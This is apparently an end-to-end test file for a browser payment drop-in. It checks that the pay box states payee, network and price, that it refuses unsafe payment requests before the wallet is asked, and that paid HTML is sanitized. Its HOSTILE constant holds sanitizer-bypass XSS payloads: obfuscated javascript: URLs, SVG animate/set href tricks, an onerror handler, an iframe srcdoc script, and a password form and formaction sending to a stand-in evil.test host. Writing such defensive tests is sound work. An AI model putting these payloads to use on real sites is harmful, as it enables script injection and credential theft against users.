// The drop-in against a hostile server, in Chromium (playwright-core), with no Worker: the page,
// the drop-in's files (www/x402/, or X402_DROPIN_DIR) and every answer come from request routes
// on made-up origins (http://news.test, http://cdn.test). The reader's wallet is a test EIP-6963
// provider in the page that records every request and signs nothing.
//   - issue #10, item 4: the pay box states what is signed — who is paid (the site, the payee
//     shortened, the network by name) next to the price in the token's own decimals — and refuses
//     an unknown token, a price above the cap in the token's units and an authorization valid for
//     10^12 s, before the wallet is asked.
//   - issue #10, item 5: paid HTML from another origin cannot run script (javascript: URLs in any
//     spelling, SVG animations, form actions) or cover the page (style attributes).
// Needs: scripts/build-browser run first.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { ART, ROOT, launchChromium } from './lib/stack.mjs';

const DROPIN = process.env.X402_DROPIN_DIR ?? path.join(ROOT, 'www', 'x402');
const TOKEN = '0x5FbDB2315678afecb367f032d93F642f64180aa3'; // TestUSDC on eip155:31337 (known)
const BASE_USDC = '0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913'; // USDC on Base (known)
const OTHER = '0x1111111111111111111111111111111111111111'; // not in the known table
const PAY_TO = '0x23618e81E3f5cdF7f54C3d65f7FBc0aBf5B21E8f';
let browser;

before(async () => { browser = await launchChromium(); });
after(async () => { await browser?.close(); });

/** A v2 PAYMENT-REQUIRED value with one requirement, changed by `edit`. */
function challenge(edit = () => {}) {
  const req = { scheme: 'exact', network: 'eip155:31337', amount: '10000', asset: TOKEN, payTo: PAY_TO, maxTimeoutSeconds: 300, extra: { name: 'USD Coin', version: '2' } };
  edit(req);
  const c = { x402Version: 2, error: 'Payment required', resource: { url: 'http://news.test/paid/x', description: 'Hostile', mimeType: 'text/html' }, accepts: [req] };
  return Buffer.from(JSON.stringify(c)).toString('base64');
}

/**
 * A page on http://news.test with the drop-in (its script tag carrying `attrs`) and one element
 * marked with `src`; `answer(route)` answers every request to http://news.test/paid/ and
 * http://cdn.test/. Returns { page, calls } (`calls`: the wallet's requests).
 */
async function open({ attrs = '', src = '/paid/x', answer, body = '' }) {
  const context = await browser.newContext();
  await context.addInitScript(() => {
    window.walletCalls = [];
    const provider = {
      request: async ({ method }) => {
        window.walletCalls.push(method);
        throw Object.assign(new Error('the test wallet signs nothing'), { code: 4001 });
      },
    };
    const detail = Object.freeze({ info: { uuid: 'test-wallet', name: 'Test wallet', icon: '', rdns: 'test.wallet' }, provider });
    const announce = () => window.dispatchEvent(new CustomEvent('eip6963:announceProvider', { detail }));
    window.addEventListener('eip6963:requestProvider', announce);
  });
  await context.route('http://news.test/**', async (route) => {
    const url = new URL(route.request().url());
    if (url.pathname.startsWith('/x402/')) {
      const file = path.join(DROPIN, path.basename(url.pathname));
      const type = file.endsWith('.wasm') ? 'application/wasm' : 'text/javascript';
      return route.fulfill({ status: 200, contentType: type, body: readFileSync(file) });
    }
    if (url.pathname === '/article.html') {
      return route.fulfill({
        status: 200,
        contentType: 'text/html',
        body: `<!doctype html><html><head><title>Hostile</title><script type="module" src="/x402/x402.js" ${attrs}></script></head>
<body><form id="pageform" action="/search"><input name="q"></form><main><h1>Article</h1><div data-x402-src="${src}"><p>Teaser.</p></div></main>${body}</body></html>`,
      });
    }
    if (url.pathname.startsWith('/paid/')) return answer(route);
    return route.fulfill({ status: 404, body: '' });
  });
  await context.route('http://cdn.test/**', (route) => answer(route));
  const page = await context.newPage();
  await page.goto('http://news.test/article.html');
  return { page, context, calls: () => page.evaluate(() => window.walletCalls) };
}

const pay402 = (value) => (route) => route.fulfill({ status: 402, headers: { 'PAYMENT-REQUIRED': value, 'content-type': 'application/json' }, body: '{}' });

test('the pay box says who is paid: the site, the payee shortened, the network by name', async () => {
  const { page, context } = await open({ answer: pay402(challenge()) });
  await page.getByRole('button', { name: 'Unlock for 0.01 USDC' }).waitFor();
  assert.equal(await page.locator('.x402-status').innerText(), 'Unlock for 0.01 USDC to news.test (0x2361…1E8f) on local test chain — Hostile.');
  await page.screenshot({ path: path.join(ART, 'e2e-hostile-offer.png') });
  await context.close();
  const base = await open({ answer: pay402(challenge((r) => { r.network = 'eip155:8453'; r.asset = BASE_USDC; r.payTo = '0x1234567890123456789012345678901234567890'; })) });
  await base.page.getByRole('button', { name: 'Unlock for 0.01 USDC' }).waitFor();
  assert.match(await base.page.locator('.x402-status').innerText(), /^Unlock for 0\.01 USDC to news\.test \(0x1234…7890\) on Base — /);
  await base.context.close();
});

test('a token outside the known table is refused before the wallet is asked', async () => {
  const { page, context, calls } = await open({ answer: pay402(challenge((r) => { r.asset = OTHER; r.amount = '100000'; })) });
  await page.locator('.x402-box[data-state=failed]').waitFor();
  assert.equal(await page.locator('.x402-box').getAttribute('data-code'), 'no_acceptable_requirement');
  assert.match(await page.locator('.x402-box').innerText(), /not a known stablecoin/);
  assert.equal(await page.getByRole('button').count(), 0, 'no "Try again", no unlock');
  assert.deepEqual(await calls(), []);
  await context.close();
});

test('a token allowed by the publisher with its decimals shows its own amount, and the cap is in its units', async () => {
  const allowed = (decimals, maxAmount) => `data-allowed-assets='${JSON.stringify([{ network: 'eip155:31337', asset: OTHER, decimals, maxAmount }])}'`;
  // 0 decimals, 3 units: "3", not 0.000003 (the old 6-decimal guess). The budget counts tokens
  // (millionths of one) whatever the decimals: 3 tokens need more than the default 1.00.
  let s = await open({ attrs: `${allowed(0, '5')} data-budget="5000000"`, answer: pay402(challenge((r) => { r.asset = OTHER; r.amount = '3'; })) });
  await s.page.getByRole('button', { name: 'Unlock for 3 tokens' }).waitFor();
  assert.match(await s.page.locator('.x402-status').innerText(), /^Unlock for 3 tokens to news\.test \(0x2361…1E8f\) on local test chain/);
  await s.context.close();
  // 18 decimals: 0.05 of the token is under the default cap (0.10 of a token)…
  s = await open({ attrs: allowed(18), answer: pay402(challenge((r) => { r.asset = OTHER; r.amount = '50000000000000000'; })) });
  await s.page.getByRole('button', { name: 'Unlock for 0.05 tokens' }).waitFor();
  await s.context.close();
  // …and 0.2 of it is over, before the wallet.
  s = await open({ attrs: allowed(18), answer: pay402(challenge((r) => { r.asset = OTHER; r.amount = '200000000000000000'; })) });
  await s.page.locator('.x402-box[data-state=failed]').waitFor();
  assert.equal(await s.page.locator('.x402-box').getAttribute('data-code'), 'over_max');
  assert.match(await s.page.locator('.x402-box').innerText(), /maximum per payment 100000000000000000 /);
  assert.deepEqual(await s.calls(), []);
  await s.context.close();
  // Not JSON: invalid_config in the box.
  s = await open({ attrs: "data-allowed-assets='[{'", answer: pay402(challenge()) });
  await s.page.locator('.x402-box[data-state=failed]').waitFor();
  assert.equal(await s.page.locator('.x402-box').getAttribute('data-code'), 'invalid_config');
  await s.context.close();
});

test('an authorization valid for 10^12 seconds is refused before the wallet is asked', async () => {
  const { page, context, calls } = await open({ answer: pay402(challenge((r) => { r.maxTimeoutSeconds = 1e12; })) });
  await page.locator('.x402-box[data-state=failed]').waitFor();
  assert.equal(await page.locator('.x402-box').getAttribute('data-code'), 'invalid_payment_requirements');
  assert.match(await page.locator('.x402-box').innerText(), /maxTimeoutSeconds 1000000000000 is above the limit 3600/);
  assert.equal(await page.getByRole('button').count(), 0);
  assert.deepEqual(await calls(), []);
  await context.close();
});

// Paid HTML from another origin, each known way around a naive sanitizer. The javascript: URLs
// return nothing (void), so one that runs leaves the page in place to be seen.
const HOSTILE = `<p id="text">Paid text <a id="ok" href="https://example.org/">a link</a> <a id="mail" href="mailto:a@example.org">mail</a></p>
<a id="tab" href="java&#9;script:void(window.pwned='tab')">tab</a>
<a id="ctl" href="&#1;javascript:void(window.pwned='ctl')">control</a>
<a id="nl" href="jav&#10;ascript:void(window.pwned='nl')">newline</a>
<a id="data" href="data:text/html,<script>alert(1)</script>">data</a>
<svg width="200" height="40"><a id="xl" xlink:href="java&#9;script:void(window.pwned='xl')"><text x="0" y="20">xlink</text></a></svg>
<svg width="200" height="40"><a id="sv" href="&#1;javascript:void(window.pwned='sv')"><text x="0" y="20">svg href</text></a></svg>
<svg width="200" height="40"><a id="an"><animate attributeName="href" values="javascript:void(window.pwned='an')" begin="0s" fill="freeze"/><text x="0" y="20">animate</text></a></svg>
<svg width="200" height="40"><a id="st"><set attributeName="href" to="javascript:void(window.pwned='st')" begin="0s"/><text x="0" y="20">set</text></a></svg>
<svg width="200" height="40"><rect width="10" height="10"><animateMotion dur="1s" path="M0,0 L10,10"/><animateTransform attributeName="transform" type="rotate" from="0" to="90" dur="1s"/></rect></svg>
<button id="fa" type="submit" form="pageform" formaction="java&#9;script:void(window.pwned='fa')">form action</button>
<button id="fx" type="submit" form="pageform" formaction="https://evil.test/steal">steal</button>
<form id="evil" action="https://evil.test/login"><input name="password" type="password"><button id="fs">log in</button></form>
<div id="overlay" style="position:fixed;inset:0;z-index:2147483647;background:#c00">overlay</div>
<iframe srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>
<img id="img" src="x" onerror="window.pwned='img'" srcset="javascript:alert(1) 1x">
<img id="png" src="https://example.org/a.png" alt="kept">`;

test('paid HTML from another origin runs no script and cannot cover the page', async () => {
  const { page, context } = await open({
    src: 'http://cdn.test/paid.html',
    answer: (route) => route.fulfill({ status: 200, contentType: 'text/html', headers: { 'Access-Control-Allow-Origin': '*' }, body: HOSTILE }),
  });
  await page.locator('[data-x402-state=unlocked]').waitFor();
  const content = page.locator('[data-x402-src]');
  assert.match(await content.innerText(), /Paid text/);
  // Click everything that could navigate or submit (a synthetic click runs a link's or a submit
  // button's activation, like a reader's, even under an overlay), give animations time, and
  // record what ran.
  const ran = [];
  for (const id of ['tab', 'ctl', 'nl', 'data', 'xl', 'sv', 'an', 'st', 'fa']) {
    await page.evaluate((i) => {
      window.pwned = undefined;
      document.getElementById(i)?.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    }, id);
    await page.waitForTimeout(300);
    const what = await page.evaluate(() => window.pwned);
    if (what !== undefined) ran.push(what);
  }
  assert.equal(page.url(), 'http://news.test/article.html', 'still on the article');
  assert.deepEqual(ran, [], 'no script ran');
  const found = await page.evaluate(() => {
    const root = document.querySelector('[data-x402-src]');
    const at = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
    return {
      styled: root.querySelectorAll('[style]').length,
      covered: root.contains(at) && at.id === 'overlay',
      bad: [...root.querySelectorAll('script,iframe,form,animate,set,animateMotion,animateTransform')].map((e) => e.localName),
      pwned: window.pwned,
      handlers: [...root.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => /^on|^form|srcdoc|srcset/i.test(n)),
      urls: [...root.querySelectorAll('[href],[src],[xlink\\:href]')].flatMap((e) => ['href', 'src', 'xlink:href'].map((a) => e.getAttribute(a)).filter(Boolean)),
      pageForm: document.getElementById('pageform').getAttribute('action'),
    };
  });
  assert.equal(found.pwned, undefined, 'no handler or frame ran');
  assert.equal(found.styled, 0, 'no style attribute survives');
  assert.equal(found.covered, false, 'nothing covers the page');
  assert.deepEqual(found.bad, []);
  assert.deepEqual(found.handlers, []);
  assert.deepEqual(found.urls.sort(), ['https://example.org/', 'https://example.org/a.png', 'mailto:a@example.org', 'x'].sort());
  assert.equal(found.pageForm, '/search');
  await page.screenshot({ path: path.join(ART, 'e2e-hostile-content.png'), fullPage: true });
  // The exported sanitize, directly: the same result.
  const direct = await page.evaluate(async (html) => {
    const { sanitize } = await import('/x402/x402.js');
    const div = document.createElement('div');
    div.append(sanitize(html));
    return div.innerHTML;
  }, HOSTILE);
  assert.doesNotMatch(direct, /javascript|style=|<form|<animate|<set|srcdoc|onerror|formaction/i);
  await context.close();
});
